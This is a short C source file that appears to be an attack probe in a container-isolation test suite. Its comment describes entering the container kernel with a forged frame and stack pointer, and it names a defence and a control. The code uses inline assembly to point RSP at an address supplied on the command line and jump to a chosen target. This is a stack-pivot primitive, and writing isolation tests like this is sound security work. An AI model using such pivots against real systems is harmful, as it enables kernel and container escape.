/* Enter the container kernel where only the host does, with a forged frame and RSP in its memory.
 * Defence: without the kernel's rights nothing can be pushed there.  Control: off=keys. */
#include "attack.h"

static u64 frame[22];

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    u64 stack = hexadecimal(argv[1]) + 2048, target = hexadecimal(argv[2]);
    asm volatile("mov %0, %%rsp; jmp *%1" :: "r"(stack), "r"(target), "D"(frame), "S"(0) : "memory");
    return 3;
}
